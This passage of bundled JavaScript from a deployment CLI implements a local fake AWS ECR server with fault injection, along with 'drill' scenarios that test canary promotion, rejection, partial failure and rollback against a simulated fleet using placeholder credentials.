    JSON_11 = "application/x-amz-json-1.1";
  }
});

// ../testkit/src/ecr/startFakeEcr.ts
import { createServer as createServer2 } from "http";
async function startFakeEcr(options = {}) {
  const repositories = new Map((options.repositories ?? []).map((name) => [name, emptyRepository()]));
  const world = {
    registryId: options.registryId ?? "123456789012",
    repositories,
    putFailures: /* @__PURE__ */ new Map(),
    missingTagFailureCode: options.missingTagFailureCode ?? "ImageNotFound"
  };
  const requests = [];
  const faults = createEcrFaults();
  const streams = /* @__PURE__ */ new Set();
  const repository = (name) => {
    let found = repositories.get(name);
    if (!found) {
      found = emptyRepository();
      repositories.set(name, found);
    }
    return found;
  };
  const server = createServer2((req, res) => {
    if ((req.url ?? "").split("?")[0] === LOGIN_PATH) {
      const page = htmlPage(404);
      res.writeHead(404, { "content-type": "text/html; charset=utf-8", "content-length": Buffer.byteLength(page) });
      res.end(page);
      return;
    }
    const chunks = [];
    let size = 0;
    req.on("data", (chunk) => {
      size += chunk.length;
      if (size <= MAX_BODY_BYTES2) chunks.push(chunk);
    });
    req.on("end", () => {
      const raw = Buffer.concat(chunks).toString("utf8");
      if (answerFault(req, res, raw)) return;
      const { reply, operation, body } = handle(world, req, raw);
      const repositoryName = typeof body?.repositoryName === "string" ? body.repositoryName : void 0;
      requests.push({
        operation,
        ...repositoryName !== void 0 ? { repositoryName } : {},
        body,
        authorized: typeof req.headers.authorization === "string" && req.headers.authorization !== "",
        status: reply.status
      });
      write2(res, reply);
    });
    req.on("error", () => res.destroy());
  });
  function answerFault(req, res, raw) {
    const operation = operationOf(req);
    const repositoryName = repositoryOf2(raw);
    const spec = faults.take({ operation, repositoryName });
    if (spec === void 0) return false;
    const action = ecrFaultAction(spec, operation);
    const authorized = typeof req.headers.authorization === "string" && req.headers.authorization !== "";
    requests.push({
      operation,
      ...repositoryName !== void 0 ? { repositoryName } : {},
      body: void 0,
      authorized,
      status: action.type === "reply" ? action.status : 0,
      fault: spec.kind
    });
    if (action.type === "reset") req.socket.destroy();
    if (action.type === "reply") {
      res.writeHead(action.status, { ...action.headers, "content-length": Buffer.byteLength(action.body) });
      res.end(action.body);
    }
    if (action.type === "stream") {
      const stop = streamReply(res, action.status, action.headers, action.plan);
      streams.add(stop);
      res.once("close", () => streams.delete(stop));
    }
    return true;
  }
  await new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(0, "127.0.0.1", () => {
      server.off("error", reject);
      resolve();
    });
  });
  const { port } = server.address();
  let closing;
  return {
    url: `http://127.0.0.1:${port}`,
    registryId: world.registryId,
    repositories,
    requests,
    seedImage: (name, tag, image) => writeTag(repository(name), tag, image),
    putManifestDirect: (name, tag, manifest) => writeTag(repository(name), tag, manifest),
    setImmutable(name, immutable) {
      repository(name).immutable = immutable;
    },
    tagDigest: (name, tag) => repositories.get(name)?.tags.get(tag),
    failNextPut(name, status = 500, errorType) {
      const queue = world.putFailures.get(name) ?? [];
      queue.push({ status, errorType: errorType ?? defaultErrorType(status) });
      world.putFailures.set(name, queue);
    },
    faults: { inject: (spec) => faults.inject(spec), clear: () => faults.clear() },
    close() {
      closing ??= new Promise((resolve) => {
        server.close(() => resolve());
        for (const stop of streams) stop();
        streams.clear();
        server.closeAllConnections();
      });
      return closing;
    }
  };
}
function operationOf(req) {
  const target = String(req.headers["x-amz-target"] ?? "");
  return target.startsWith(TARGET_PREFIX) ? target.slice(TARGET_PREFIX.length) : target;
}
function repositoryOf2(raw) {
  try {
    const name = JSON.parse(raw)?.repositoryName;
    return typeof name === "string" ? name : void 0;
  } catch {
    return void 0;
  }
}
function handle(world, req, raw) {
  const operation = operationOf(req);
  const error = (status, errorType, message) => ({ reply: { status, errorType, message }, operation, body: void 0 });
  if (req.method !== "POST" || (req.url ?? "/") !== "/") return error(404, "UnknownOperationException", "ECR serves POST / only");
  if (!req.headers.authorization) return error(403, "MissingAuthenticationTokenException", "Missing Authentication Token");
  if (!String(req.headers["content-type"] ?? "").startsWith(JSON_112)) {
    return error(400, "SerializationException", `expected Content-Type ${JSON_112}`);
  }
  let body;
  try {
    body = raw === "" ? {} : JSON.parse(raw);
  } catch {
    return error(400, "SerializationException", "body is not JSON");
  }
  if (typeof body !== "object" || body === null || Array.isArray(body)) return error(400, "SerializationException", "body is not a JSON object");
  let reply;
  try {
    reply = runOperation(world, operation, body);
  } catch {
    reply = { status: 500, errorType: "ServerException", message: "fake ECR handler error" };
  }
  return { reply, operation, body };
}
function write2(res, reply) {
  const isError = "errorType" in reply;
  const payload = JSON.stringify(isError ? { __type: reply.errorType, message: reply.message } : reply.json);
  res.writeHead(reply.status, {
    "content-type": JSON_112,
    "content-length": Buffer.byteLength(payload),
    "x-amzn-requestid": "00000000-0000-4000-8000-000000000000",
    ...isError ? { "x-amzn-errortype": `${reply.errorType}:http://internal.amazon.com/coral/com.amazonaws.ecr/` } : {}
  });
  res.end(payload);
}
var TARGET_PREFIX, JSON_112, MAX_BODY_BYTES2;
var init_startFakeEcr = __esm({
  "../testkit/src/ecr/startFakeEcr.ts"() {
    "use strict";
    init_ecrOperations();
    init_ecrFaults();
    init_faultReplies();
    init_streamReply();
    init_ecrState();
    TARGET_PREFIX = "AmazonEC2ContainerRegistry_V20150921.";
    JSON_112 = "application/x-amz-json-1.1";
    MAX_BODY_BYTES2 = 4 * 1024 * 1024;
  }
});

// ../testkit/src/ecr/index.ts
var init_ecr = __esm({
  "../testkit/src/ecr/index.ts"() {
    "use strict";
    init_startFakeEcr();
  }
});

// ../testkit/src/index.ts
var init_src4 = __esm({
  "../testkit/src/index.ts"() {
    "use strict";
    init_startWorld();
    init_scenarios();
    init_ecr();
  }
});

// ../cli/src/drill/drillFlags.ts
var MIN_DRILL_TENANTS, MAX_DRILL_TENANTS, DEFAULT_DRILL_TENANTS, drillFlags;
var init_drillFlags = __esm({
  "../cli/src/drill/drillFlags.ts"() {
    "use strict";
    init_zod();
    MIN_DRILL_TENANTS = 3;
    MAX_DRILL_TENANTS = 1e3;
    DEFAULT_DRILL_TENANTS = 6;
    drillFlags = external_exports.object({
      scenario: external_exports.string().trim().min(1, "must name a scenario").default("happy"),
      tenants: external_exports.string().trim().regex(/^\d+$/, "must be a whole number").transform(Number).pipe(external_exports.number().int().min(MIN_DRILL_TENANTS, `must be at least ${MIN_DRILL_TENANTS}`).max(MAX_DRILL_TENANTS, `must be at most ${MAX_DRILL_TENANTS}`)).default(DEFAULT_DRILL_TENANTS),
      list: external_exports.boolean().default(false),
      json: external_exports.boolean().default(false)
    });
  }
});

// ../cli/src/drill/commitStatusCheck.ts
function commitStatusMismatch(posted, outcome) {
  if (outcome === void 0 || !(outcome in FINAL_STATE)) return void 0;
  const expected = FINAL_STATE[outcome];
  const last = posted.at(-1)?.state;
  if (expected === void 0) return posted.length === 0 ? void 0 : `it posted ${posted.length} commit status(es) on a dry run`;
  if (last === expected) return void 0;
  return last === void 0 ? `it posted no commit status (expected ${expected})` : `its last commit status is ${last}, not ${expected}`;
}
var DRILL_RUN_ID, FINAL_STATE;
var init_commitStatusCheck = __esm({
  "../cli/src/drill/commitStatusCheck.ts"() {
    "use strict";
    DRILL_RUN_ID = "1";
    FINAL_STATE = { deployed: "success", failed: "failure", skipped: "warning", planned: void 0 };
  }
});

// ../cli/src/drill/judgeDrill.ts
function judgeDrill(report, exitCode, expected) {
  const parsed = judgedReport.safeParse(report);
  if (!parsed.success) return { passed: false, mismatches: ["the pipeline produced no report"] };
  const { outcome, reason, stragglers } = parsed.data;
  const mismatches = [];
  if (outcome !== expected.outcome) mismatches.push(`the pipeline ${outcome}`);
  if (expected.reasonIncludes && !reason.toLowerCase().includes(expected.reasonIncludes.toLowerCase())) {
    mismatches.push(`its reason does not mention "${expected.reasonIncludes}"`);
  }
  const stragglerCount = stragglers?.length ?? 0;
  if (expected.stragglers !== void 0 && stragglerCount !== expected.stragglers) {
    mismatches.push(`it quarantined ${stragglerCount} straggler(s), not ${expected.stragglers}`);
  }
  const expectedExit = outcome === "failed" ? 1 : 0;
  if (exitCode !== expectedExit) mismatches.push(`it exited ${exitCode} for outcome ${outcome}`);
  return { passed: mismatches.length === 0, actual: outcome, mismatches };
}
var judgedReport;
var init_judgeDrill = __esm({
  "../cli/src/drill/judgeDrill.ts"() {
    "use strict";
    init_zod();
    judgedReport = external_exports.object({
      outcome: external_exports.string(),
      reason: external_exports.string(),
      stragglers: external_exports.array(external_exports.string()).optional()
    });
  }
});

// ../cli/src/drill/drillScenario.ts
async function drillScenario(run, io, env, deps = DEFAULT_DEPS) {
  let world;
  try {
    world = await deps.startWorld({ scenario: run.scenario, tenants: run.tenants });
  } catch (cause) {
    io.stderr(`molecule-deploy drill: could not start the simulated world: ${cause instanceof Error ? cause.message : String(cause)}
`);
    return 1;
  }
  try {
    return await deployInWorld(run, world, io, env, deps.clock);
  } finally {
    await world.close().catch((cause) => {
      io.stderr(`molecule-deploy drill: could not stop the simulated world: ${cause instanceof Error ? cause.message : String(cause)}
`);
    });
  }
}
async function deployInWorld(run, world, rawIo, env, clock) {
  const secrets = [world.tokens.gitea, world.tokens.control, world.tokens.cp, world.tokens.status, ...world.tokens.canaryAdmin];
  const io = redactingIo(rawIo, secrets);
  const command = getScenario(run.scenario)?.command ?? "deploy";
  const statusEnv = command === "deploy" ? { PROD_DEPLOY_STATUS_TOKEN: world.tokens.status, GITHUB_RUN_ID: DRILL_RUN_ID } : {};
  const config = loadDeployConfig(run.json ? { json: true } : {}, { ...world.env(), ...statusEnv }, { command });
  if (config.isErr()) {
    io.stderr(`molecule-deploy drill: the simulated world's settings were rejected:
${describeConfigError(config.error)}
`);
    return 1;
  }
  const renderer = await chooseRenderer({ io, env, json: run.json, now: () => clock.now(), title: `molecule-deploy drill ${run.scenario}` });
  renderer.log(`drill: scenario ${run.scenario}: ${run.summary}`);
  renderer.log(`drill: expecting ${run.expected.outcome}; ${world.slugs.length} tenants, simulated Gitea, control plane and fleet on 127.0.0.1`);
  for (const notice of config.value.notices) renderer.log(`notice: ${notice}`);
  let report;
  let exitCode;
  try {
    exitCode = await runConfiguredCommand(config.value, progressContext({ io, clock, renderer, secrets, onReport: (r) => report = r }));
  } finally {
    renderer.close();
  }
  const interrupted = io.signal?.aborted === true;
  const judged = judgeDrill(report, exitCode, run.expected);
  const statusProblem = command === "deploy" ? commitStatusMismatch(world.gitea.postedStatuses(), judged.actual) : void 0;
  const verdict = statusProblem === void 0 ? judged : { ...judged, passed: false, mismatches: [...judged.mismatches, statusProblem] };
  const passed = verdict.passed && !interrupted;
  const paint = createPaint(colorAllowed(io.isTTY, env));
  const line = passed ? `${paint("green", "\u2714")} drill passed: scenario ${run.scenario} expected ${run.expected.outcome} and the pipeline ${verdict.actual}` : `${paint("red", "\u2716")} drill failed: scenario ${run.scenario} expected ${run.expected.outcome} but ${interrupted ? "it was interrupted" : verdict.mismatches.join("; ")}`;
  if (run.json) io.stderr(`${line}
`);
  else io.stdout(`${line}
`);
  return passed ? 0 : 1;
}
var DEFAULT_DEPS;
var init_drillScenario = __esm({
  "../cli/src/drill/drillScenario.ts"() {
    "use strict";
    init_src();
    init_src4();
    init_loadDeployConfig();
    init_problems();
    init_redact();
    init_chooseRenderer();
    init_colors();
    init_progressContext();
    init_runCommand();
    init_commitStatusCheck();
    init_judgeDrill();
    DEFAULT_DEPS = { startWorld, clock: systemClock };
  }
});

// ../cli/src/drill/listScenarios.ts
function listScenarios(scenarios2) {
  const width = Math.max(...scenarios2.map((s) => s.name.length));
  const outcomeWidth = Math.max(...scenarios2.map((s) => s.expected.outcome.length));
  return scenarios2.map((s) => `${s.name.padEnd(width)}  expect ${s.expected.outcome.padEnd(outcomeWidth)}  ${s.summary}`);
}
var init_listScenarios = __esm({
  "../cli/src/drill/listScenarios.ts"() {
    "use strict";
  }
});

// ../cli/src/drill/promotionWorld.ts
async function startPromotionWorld(options = {}) {
  const world = await startWorld({ scenario: "happy", ...options.tenants !== void 0 && { tenants: options.tenants } });
  const ecr = await startFakeEcr();
  const newTag = `staging-${world.sha.slice(0, 7)}`;
  const oldTag = `staging-${world.previousSha.slice(0, 7)}`;
  const digests = {};
  for (const repository of REPOSITORIES) {
    const index = `{"schemaVersion":2,"mediaType":"${OCI_INDEX}","manifests":[],"annotations":{"repo":"${repository}","sha":"${world.sha}"}}`;
    const single = `{"schemaVersion":2,"mediaType":"${DOCKER_MANIFEST}","layers":[],"annotations":{"repo":"${repository}","sha":"${world.previousSha}"}}`;
    digests[repository] = {
      new: ecr.seedImage(repository, newTag, { mediaType: OCI_INDEX, body: index }),
      old: ecr.seedImage(repository, oldTag, { mediaType: DOCKER_MANIFEST, body: single })
    };
    ecr.seedImage(repository, "latest", { mediaType: DOCKER_MANIFEST, body: single });
  }
  const awsEnv = {
    AWS_ENDPOINT_URL_ECR: ecr.url,
    AWS_ACCESS_KEY_ID: "AKIAFAKEFAKEFAKE0000",
    AWS_SECRET_ACCESS_KEY: "fake-secret-access-key-for-tests",
    // Nothing of the machine's own AWS configuration may take part.
    AWS_CONFIG_FILE: "/nonexistent/aws-config",
    AWS_SHARED_CREDENTIALS_FILE: "/nonexistent/aws-credentials",
    AWS_EC2_METADATA_DISABLED: "true"
  };
  return {
    world,
    ecr,
    newTag,
    oldTag,
    digests,
    awsEnv,
    env: (overrides = {}) => ({ ...world.env(), AWS_REGION: "us-east-1", ...overrides }),
    canariesOnNewSha: () => {
      for (const slug of world.slugs.slice(0, world.tokens.canaryAdmin.length)) world.fleet.setImage(slug, newTag);
    },
    puts: () => ecr.requests.filter((request) => request.operation === "PutImage").length,
    close: async () => {
      await Promise.all([world.close(), ecr.close()]);
    }
  };
}
var OCI_INDEX, DOCKER_MANIFEST, REPOSITORIES;
var init_promotionWorld = __esm({
  "../cli/src/drill/promotionWorld.ts"() {
    "use strict";
    init_src4();
    OCI_INDEX = "application/vnd.oci.image.index.v1+json";
    DOCKER_MANIFEST = "application/vnd.docker.distribution.manifest.v2+json";
    REPOSITORIES = ["platform", "platform-tenant"];
  }
});

// ../cli/src/drill/pipelineDrill.ts
async function drillPipeline(drill, run, rawIo, env, deps) {
  let pw;
  try {
    pw = await deps.startPromotionWorld({ tenants: run.tenants });
  } catch (cause) {
    rawIo.stderr(`molecule-deploy drill: could not start the simulated world: ${cause instanceof Error ? cause.message : String(cause)}
`);
    return 1;
  }
  const secrets = [...pw.world.tokens.canaryAdmin, pw.awsEnv.AWS_SECRET_ACCESS_KEY];
  const io = redactingIo(rawIo, secrets);
  try {
    const renderer = await chooseRenderer({ io, env, json: run.json, now: () => deps.clock.now(), title: `molecule-deploy drill ${drill.name}` });
    renderer.log(`drill: scenario ${drill.name}: ${drill.summary}`);
    renderer.log(`drill: expecting ${drill.expected.outcome}; simulated staging canaries and a fake ECR on 127.0.0.1`);
    const ctx = progressContext({ io, clock: deps.clock, renderer, secrets });
    const registry = createEcrRegistry({
      region: "us-east-1",
      endpoint: pw.ecr.url,
      credentials: { accessKeyId: pw.awsEnv.AWS_ACCESS_KEY_ID, secretAccessKey: pw.awsEnv.AWS_SECRET_ACCESS_KEY },
      maxAttempts: 1
    });
    let result;
    try {
      result = await drill.run({ pw, registry, tenants: createBuildInfoReader(), smoke: createSmokeClient(), clock: deps.clock, onEvent: ctx.onEvent });
    } finally {
      renderer.close();
    }
    const interrupted = io.signal?.aborted === true;
    const outcomeOk = result.outcome === drill.expected.outcome;
    const passed = outcomeOk && result.checks.every((check) => check.passed) && !interrupted;
    const paint = createPaint(colorAllowed(io.isTTY, env));
    const lines = [
      `${drill.name} ${result.outcome}: ${result.reason}`,
      ...result.checks.map((check) => `  ${check.passed ? "ok    " : "FAILED"}  ${check.what}`),
      passed ? `${paint("green", "\u2714")} drill passed: scenario ${drill.name} expected ${drill.expected.outcome} and the pipeline ${result.outcome}` : `${paint("red", "\u2716")} drill failed: scenario ${drill.name} expected ${drill.expected.outcome} but ${interrupted ? "it was interrupted" : mismatch(outcomeOk, result)}`
    ];
    if (run.json) {
      io.stderr(lines.map((line) => `${line}
`).join(""));
      io.stdout(`${JSON.stringify({ scenario: drill.name, expected: drill.expected.outcome, ...result, passed }, null, 2)}
`);
    } else {
      io.stdout(lines.map((line) => `${line}
`).join(""));
    }
    return passed ? 0 : 1;
  } finally {
    await pw.close().catch((cause) => {
      io.stderr(`molecule-deploy drill: could not stop the simulated world: ${cause instanceof Error ? cause.message : String(cause)}
`);
    });
  }
}
function mismatch(outcomeOk, result) {
  const failed = result.checks.filter((check) => !check.passed).map((check) => `not: ${check.what}`);
  return [...outcomeOk ? [] : [`the pipeline ${result.outcome}`], ...failed].join("; ");
}
var DEFAULT_PIPELINE_DEPS;
var init_pipelineDrill = __esm({
  "../cli/src/drill/pipelineDrill.ts"() {
    "use strict";
    init_src();
    init_src2();
    init_src3();
    init_redact();
    init_chooseRenderer();
    init_colors();
    init_progressContext();
    init_promotionWorld();
    DEFAULT_PIPELINE_DEPS = { startPromotionWorld, clock: systemClock };
  }
});

// ../cli/src/drill/pipelineDrills.ts
function canaries(pw, tokens = pw.world.tokens.canaryAdmin) {
  const { world } = pw;
  return tokens.map((token, index) => ({ url: world.tenantUrlTemplate.replace("{slug}", world.slugs[index]), token }));
}
function latestIs(pw, side) {
  return Object.entries(pw.digests).map(([repository, digests]) => ({
    what: `latest in ${repository} is staging-${shortSha(side === "new" ? pw.world.sha : pw.world.previousSha)}`,
    passed: pw.ecr.tagDigest(repository, "latest") === digests[side]
  }));
}
async function verifyCanary(ctx, waitSeconds, tokens) {
  const { pw } = ctx;
  const result = await canaryVerify(
    { sha: pw.world.sha, canaries: canaries(pw, tokens), waitSeconds, intervalSeconds: INTERVAL_SECONDS, repositories: [...Object.keys(pw.digests)] },
    { tenants: ctx.tenants, smoke: ctx.smoke, registry: ctx.registry, clock: ctx.clock, onEvent: ctx.onEvent }
  );
  return result.isOk() ? result.value : result.error.report;
}
function getPipelineDrill(name) {
  return PIPELINE_DRILLS.find((drill) => drill.name === name);
}
var CANARY_WAIT_SECONDS, BEHIND_WAIT_SECONDS, INTERVAL_SECONDS, noWrite, PIPELINE_DRILLS;
var init_pipelineDrills = __esm({
  "../cli/src/drill/pipelineDrills.ts"() {
    "use strict";
    init_src();
    init_helpers();
    CANARY_WAIT_SECONDS = 2;
    BEHIND_WAIT_SECONDS = 0.3;
    INTERVAL_SECONDS = 0.05;
    noWrite = (pw) => ({ what: "no registry write was sent", passed: pw.puts() === 0 });
    PIPELINE_DRILLS = [
      {
        name: "canary-promoted",
        summary: "the canaries serve the commit and pass smoke: canary-verify promotes it to latest in every repository",
        expected: { outcome: "promoted" },
        async run(ctx) {
          ctx.pw.canariesOnNewSha();
          const report = await verifyCanary(ctx, CANARY_WAIT_SECONDS);
          return { outcome: report.outcome, reason: report.reason, checks: latestIs(ctx.pw, "new") };
        }
      },
      {
        name: "canary-smoke-red",
        summary: "a red smoke suite (each canary given the other's token) rejects the commit: latest untouched",
        expected: { outcome: "rejected" },
        async run(ctx) {
          ctx.pw.canariesOnNewSha();
          const report = await verifyCanary(ctx, CANARY_WAIT_SECONDS, [...ctx.pw.world.tokens.canaryAdmin].reverse());
          return { outcome: report.outcome, reason: report.reason, checks: [noWrite(ctx.pw), ...latestIs(ctx.pw, "old")] };
        }
      },
      {
        name: "canary-behind",
        summary: "the canaries still serve the old commit at the deadline: rejected before any smoke check or registry call",
        expected: { outcome: "rejected" },
        async run(ctx) {
          const report = await verifyCanary(ctx, BEHIND_WAIT_SECONDS);
          return {
            outcome: report.outcome,
            reason: report.reason,
            checks: [{ what: "no smoke check ran", passed: report.smoke === void 0 }, noWrite(ctx.pw), ...latestIs(ctx.pw, "old")]
          };
        }
      },
      {
        name: "promotion-partial-failure",
        summary: "writing latest fails in the second repository: promote fails and puts the first one back",
        expected: { outcome: "failed" },
        async run(ctx) {
          const { pw } = ctx;
          const [first, second] = Object.keys(pw.digests);
          pw.ecr.failNextPut(second, 400, "InvalidParameterException");
          const result = await promoteImage({ sha: pw.world.sha, repositories: [...Object.keys(pw.digests)] }, { registry: ctx.registry, onEvent: ctx.onEvent });
          const outcome = result.isOk() ? "promoted" : "failed";
          const reason = result.isOk() ? "latest moved everywhere" : result.error.kind === "invalid-input" ? "invalid input" : result.error.message;
          return { outcome, reason, checks: [{ what: `${first} was written, then restored`, passed: pw.puts() >= 2 }, ...latestIs(pw, "old")] };
        }
      },
      {
        name: "rollback-verified",
        summary: "latest moves back to the previous commit, and the fleet is verified against that commit, not the job one (lesson 11)",
        expected: { outcome: "rolled-back" },
        async run(ctx) {
          const { pw } = ctx;
          const promoted = await promoteImage({ sha: pw.world.sha, repositories: [...Object.keys(pw.digests)] }, { registry: ctx.registry, onEvent: ctx.onEvent });
          const rolled = await rollbackLatest({ sha: pw.world.previousSha, repositories: [...Object.keys(pw.digests)] }, { registry: ctx.registry, onEvent: ctx.onEvent });
          const verified = await verifyFleetSha(
            {
              sha: pw.world.previousSha,
              slugs: pw.world.slugs,
              tenantUrlTemplate: pw.world.tenantUrlTemplate,
              timeoutSeconds: CANARY_WAIT_SECONDS,
              intervalSeconds: INTERVAL_SECONDS
            },
            { tenants: ctx.tenants, clock: ctx.clock, onEvent: ctx.onEvent }
          );
          const reason = rolled.isOk() ? `latest points at staging-${shortSha(pw.world.previousSha)} again` : rolled.error.kind === "invalid-input" ? "invalid input" : rolled.error.message;
          return {
            outcome: rolled.isOk() ? "rolled-back" : "failed",
            reason,
            checks: [
              { what: "the commit was promoted first", passed: promoted.isOk() },
              ...latestIs(pw, "old"),
              { what: `every tenant serves ${shortSha(pw.world.previousSha)} (/buildinfo)`, passed: verified.isOk() }
            ]
          };
        }
      }
    ];
  }
});

// ../cli/src/drill/runDrill.ts
async function runDrill(flags, env, io, deps, pipelineDeps = DEFAULT_PIPELINE_DEPS) {
  const parsed = drillFlags.safeParse(flags);
  if (!parsed.success) {
    const problems = parsed.error.issues.map((issue) => `--${issue.path.join(".")}: ${issue.message}`);
    io.stderr(`molecule-deploy drill: ${problems.join("; ")}
`);
    return USAGE;
  }
  const options = parsed.data;
  if (options.list) {
    io.stdout(
      // The deploy's scenarios, then the canary gate's and promotion's (issue 15).
      listScenarios([...scenarios, ...PIPELINE_DRILLS]).map((line) => `${line}
`).join("")
    );
    return 0;
  }
  const presentation = { NO_COLOR: env.NO_COLOR, FORCE_COLOR: env.FORCE_COLOR, TERM: env.TERM, GITHUB_ACTIONS: env.GITHUB_ACTIONS };
  const pipeline = getPipelineDrill(options.scenario);
  if (pipeline) return drillPipeline(pipeline, { tenants: options.tenants, json: options.json }, io, presentation, pipelineDeps);
  const scenario = getScenario(options.scenario);
  if (!scenario) {
    const names = [...scenarioNames, ...PIPELINE_DRILLS.map((drill) => drill.name)];
    io.stderr(`molecule-deploy drill: unknown scenario "${options.scenario}"; choose one of: ${names.join(", ")}
`);
    return USAGE;
  }
  const run = { scenario: scenario.name, expected: scenario.expected, summary: scenario.summary, tenants: options.tenants, json: options.json };
  return drillScenario(run, io, presentation, deps);
}
var USAGE;
var init_runDrill = __esm({
  "../cli/src/drill/runDrill.ts"() {
    init_src4();
    init_drillFlags();
    init_drillScenario();
    init_listScenarios();
    init_pipelineDrill();
    init_pipelineDrills();
    USAGE = 2;
  }
});
init_runDrill();
export {
  runDrill
};
